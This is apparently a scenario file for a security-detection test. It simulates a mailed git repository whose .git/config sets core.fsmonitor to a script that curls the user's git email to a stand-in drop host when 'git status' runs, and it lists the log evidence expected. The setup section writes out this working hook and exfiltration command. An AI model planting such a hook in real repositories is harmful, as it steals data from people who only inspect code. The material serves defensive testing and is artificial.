title="A mailed project whose .git/config runs a program at 'git status'"
what="dev gets a tarball of a repository by mail, unpacks it and only looks: git status. The repository's own configuration names a core.fsmonitor program, which git runs; it posts the git user to 203.0.113.66."
host=mx1.example.org user=dev daemons="cron sshd"
setup() {
  mkdir -p "$base/out/inv-parser"; cd "$base/out/inv-parser"
  git init -q .; git config user.email a@example.com; git config user.name a
  printf 'print("invoice")\n' > parse.py; git add .; git commit -qm "first version"
  printf '#!/bin/sh\ncurl -s -m 4 -o /dev/null -d "x=$(git config user.email)" http://drop.example.net/f\nexit 1\n' > .git/watch-index; chmod 755 .git/watch-index
  git config core.fsmonitor .git/watch-index
  cd ..; tar czf inv-parser.tar.gz inv-parser; cd /
}
act() {
  small_talk 2
  mail_in --from applicant77@example.net --to dev@example.org --subject "My sample work, as asked" --source 203.0.113.77 --helo host77.example.net --attach "$base/out/inv-parser.tar.gz:application/gzip"
  wait_mail dev 1
  ssh_as dev <<'L'
mkdir applicants; cd applicants
munpack -q ../Maildir/new/*
tar xf inv-parser.tar.gz
cd inv-parser
git log --oneline
%sleep 3
git status
cat parse.py
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  file_step part 'munpack open(at)?:write CREATE .*inv-parser.tar.gz' 'the archive'
  exec_step unpack 'tar xf inv-parser.tar.gz' 'unpacked'
  exec_step execute '.git/watch-index' 'git runs the program of the configuration'
  net_step beacon 'curl 203.0.113.66:80' 'it calls out'
}
